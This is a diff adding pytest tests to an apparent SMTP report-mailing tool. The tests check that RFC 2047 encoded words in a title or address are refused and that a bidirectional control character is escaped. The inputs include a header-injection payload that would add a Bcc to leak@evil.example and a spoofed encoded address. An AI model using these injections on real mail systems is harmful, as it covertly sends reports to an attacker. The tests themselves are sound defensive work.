@@ -389,3 +389,34 @@ def test_a_timeout_that_is_not_a_number_of_seconds_is_refused(value):
                        "COMPLIANCE_SMTP_TIMEOUT": value})
     assert load_settings({"COMPLIANCE_SMTP_HOST": "h", "COMPLIANCE_SMTP_FROM": "a@example.gov.uk",
                           "COMPLIANCE_SMTP_TIMEOUT": "45"}).timeout == 45
+
+
+def test_an_encoded_word_in_the_title_or_an_address_is_refused_before_anything_is_sent(server, cafile, tmp_path,
+                                                                                     monkeypatch, run_cli):
+    """Python decodes an RFC 2047 word in a header it is given: =0A is a line break, so a title could add a Bcc
+    header, which smtplib then sent the report to; and an address could become another."""
+    controller, inbox = server
+    for key, value in smtp_env(controller, cafile).items():
+        monkeypatch.setenv(key, value)
+    title = "Nightly =?utf-8?q?report=0ABcc=3A_leak=40evil.example?="
+    code, _, err = run_cli("report", str(COUNCIL), "--as-of", "2026-11-20", "--out", str(tmp_path / "out"),
+                           "--title", title, "--mail-to", "a@example.gov.uk")
+    assert code == 2 and "--title: " in err and "an encoded word (RFC 2047)" in err, err
+    assert inbox.messages == [] and not (tmp_path / "out").exists()
+    code, _, err = run_cli("report", str(COUNCIL), "--as-of", "2026-11-20", "--out", str(tmp_path / "out"),
+                           "--mail-to", "=?utf-8?q?leak=40evil.example?=@example.gov.uk")
+    assert code == 2 and "--mail-to: " in err and "reads as another address" in err, err
+    assert inbox.messages == [] and not (tmp_path / "out").exists()
+
+
+def test_a_bidirectional_control_in_the_title_is_shown_as_its_escape_in_the_subject(server, cafile, tmp_path,
+                                                                                   monkeypatch, run_cli):
+    controller, inbox = server
+    for key, value in smtp_env(controller, cafile).items():
+        monkeypatch.setenv(key, value)
+    code, _, err = run_cli("report", str(COUNCIL), "--as-of", "2026-11-20", "--out", str(tmp_path),
+                           "--title", "Harrow \u202eevif\u202c", "--mail-to", "a@example.gov.uk")
+    assert code == 1, err
+    (message, _, _, recipients), = inbox.messages
+    assert recipients == ["a@example.gov.uk"]
+    assert message["Subject"].startswith("Harrow \\u202eevif\\u202c as of 2026-11-20: ")
